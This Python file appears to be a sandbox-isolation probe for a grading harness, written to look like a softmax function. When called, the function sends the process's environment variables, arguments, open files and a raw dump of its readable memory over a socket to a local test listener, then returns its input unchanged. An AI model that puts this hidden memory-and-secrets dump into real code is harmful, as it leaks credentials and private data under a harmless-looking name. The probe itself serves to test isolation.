"""A submission that shows all that its process can know: read as text and handed in, never imported here.

Without the wall it sends its memory, and what the kernel tells it of itself, to the test that waits at PORT.
Files in its memory that cannot be written there are named instead: they are the same in every process.
Behind the wall no line can be opened; then it waits until it has been looked at from outside.
"""

import contextlib
import ctypes
import json
import os
import socket
import sys
import time

PORT = 0
STEP = 1 << 16
# Python keeps a text in one, two or four bytes a character: by these the search is known to look at each.
NARROW = "@control@narrow"
WIDE = "@control@wide中"
WIDEST = "@control@widest😀"
NUMBER = 0.5


def tell_all():
    """Send a line of JSON, then every byte that can be read."""
    with socket.create_connection(("127.0.0.1", PORT)) as line:
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # dumpable again, so that /proc/self/mem opens
        line.sendall(json.dumps(describe()).encode() + b"\n")
        for row in regions():
            if row[1].startswith("r") and (row[1][1] == "w" or "/" not in row[-1]):
                start, end = (int(place, 16) for place in row[0].split("-"))
                send_region(line, start, end)


def describe():
    """What surrounds this process."""
    descriptors = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            descriptors[name] = os.readlink(f"/proc/self/fd/{name}")
    return {
        "environ": [raw("environ"), json.dumps(dict(os.environ))],
        "argv": [raw("cmdline"), json.dumps([sys.argv, sys.orig_argv])],
        "descriptors": descriptors,
        "folder": os.getcwd(),
        "path": sys.path,
        "modules": sorted(sys.modules),
        "maps": [" ".join(row) for row in regions()],
    }


def raw(name):
    """A file of /proc/self."""
    with open(f"/proc/self/{name}", "rb") as file:
        return file.read().decode("utf-8", "replace")


def regions():
    """All of its memory: addresses, mode, ..., and the file if one is mapped."""
    with open("/proc/self/maps") as file:
        return [row.split() for row in file]


def send_region(line, start, end):
    """A region, as far as it can be read."""
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    with contextlib.suppress(OSError, OverflowError):
        for at in range(start, end, STEP):
            part = os.pread(memory, min(STEP, end - at), at)
            if part.strip(b"\0"):
                line.sendall(part)
    os.close(memory)


def softmax(x, temperature=1.0):
    """Shows everything in the first test, and is wrong in all."""
    if temperature == 1.0:
        try:
            tell_all()
        except PermissionError:
            time.sleep(50)
    return x
